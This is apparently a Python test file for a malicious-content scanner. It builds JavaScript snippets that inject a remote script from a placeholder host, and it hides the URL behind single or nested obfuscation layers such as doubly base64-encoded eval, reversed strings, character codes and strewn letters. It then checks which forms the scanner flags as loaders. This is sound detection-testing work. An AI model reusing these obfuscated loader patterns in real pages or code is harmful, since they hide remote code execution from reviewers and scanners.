"""One disguise within another, and letters strewn into an address: what honest makers write that
comes near it, for which nobody is accused, and what hides from whoever reads one layer only."""

from __future__ import annotations

import pytest

from cyberscan.model.verdict import Outcome, Verdict
from tests.checks.content.reading import b64, codes, hexed
from tests.checks.content.scripting import in_file, on_page

HOST = "https://cdn.dokura.example"
MADE = "var s=document.createElement('script');s.src={};document.head.appendChild(s);"
MODULE = f"atob('{b64(HOST + '/modul/sorot.js')}')"
PLACE = f"{HOST}/modul/sorot.js"
BACK = ".split('').reverse().join('')"


def percent(text: str) -> str:
    return "".join(f"%{ord(c):02x}" for c in text)


LAYERS_HONEST = {
    "encoded, in pieces": MADE.format(f"atob('{b64(PLACE)[:9]}'+'{b64(PLACE)[9:]}')"),
    "encoded, as escapes": MADE.format(f"atob('{hexed(b64(PLACE))}')"),
    "encoded whole, and not within": f"eval(atob('{b64(MADE.format(repr(PLACE)))}'))",
    "decoded as letters of all scripts": MADE.format(
        f"decodeURIComponent(escape(atob('{b64(PLACE)}')))"
    ),
    "encoded beside a word backwards": f"var kata='{'pencarian'[::-1]}'{BACK};"
    + MADE.format(MODULE),
    "two encoded, one within none": MADE.format(f"atob('{b64(HOST)}')+atob('{b64('/modul.js')}')"),
    "backwards, its owner beside it": MADE.format(f"'{PLACE[::-1]}'{BACK}")
    + "/* dokura.example */",
    "the host put in where it belongs": MADE.format(
        "'https://{h}/modul.js'.replace('{h}',h)"
    ).replace("var s", "var h='cdn.dokura.example',s"),
    "in pieces between its words": MADE.format("'https://cdn.'+'dokura'+'.example'+'/modul.js'"),
    "dots put in for other signs": MADE.format(
        "'https://cdn_dokura_example/modul.js'.replace(/_/g,'.')"
    ),
    "wrapped where the line ends": MADE.format("'https://cdn.dok'+'ura.example/modul/sorot.js'"),
    "its parts by names": "var p='dokura',a='example';"
    + MADE.format("'https://cdn.'+p+'.'+a+'/modul.js'"),
    "blanks left out of what is read": MADE.format(
        "'https://cdn.dokura.example/ m.js'.replace(' ','')"
    ),
}
LAYERS_GUILTY = {
    "backwards, then encoded": MADE.format(f"atob('{b64(PLACE[::-1])}'){BACK}"),
    "encoded, then backwards": MADE.format(f"atob('{b64(PLACE)[::-1]}'{BACK})"),
    "encoded twice": MADE.format(f"atob(atob('{b64(b64(PLACE))}'))"),
    "percent signs in codes": MADE.format(
        f"unescape(String.fromCharCode({codes(percent(PLACE))}))"
    ),
    "a script encoded that decodes it": "eval(atob('"
    + b64(MADE.format(f"atob('{b64(PLACE)}')"))
    + "'))",
    "a script in a script, both encoded": "eval(atob('"
    + b64(f"eval(atob('{b64(MADE.format(repr(PLACE)))}'))")
    + "'))",
    "imported, backwards and encoded": f"import(atob('{b64(PLACE)[::-1]}'{BACK}))",
    "imported, by the time": f"import(atob('{b64(PLACE)}')+'?'+Date.now())",
    "signs strewn in": MADE.format(f"'{'~'.join(PLACE)}'.replace(/~/g,'')"),
    "letters strewn in": MADE.format(f"'{'qz'.join(PLACE)}'.split('qz').join('')"),
    "letters put in place of others": MADE.format(
        f"'{PLACE.replace('o', '##').replace('a', '@@')}'.replace(/##/g,'o').replace(/@@/g,'a')"
    ),
    "letter by letter": MADE.format("['" + "','".join(PLACE) + "'].join('')"),
}


def not_accused(verdict: Verdict) -> bool:
    return verdict.outcome is Outcome.PASS or verdict.message == "look"


@pytest.mark.parametrize("name", LAYERS_HONEST)
def test_one_layer_or_pieces_accuse_nobody(name: str) -> None:
    assert not_accused(on_page(LAYERS_HONEST[name], ""))
    assert not_accused(in_file(LAYERS_HONEST[name], ""))


@pytest.mark.parametrize("name", LAYERS_GUILTY)
def test_one_disguise_within_another_does(name: str) -> None:
    assert on_page(LAYERS_GUILTY[name], "").message == "loader"
    assert in_file(LAYERS_GUILTY[name], "").message == "loader"
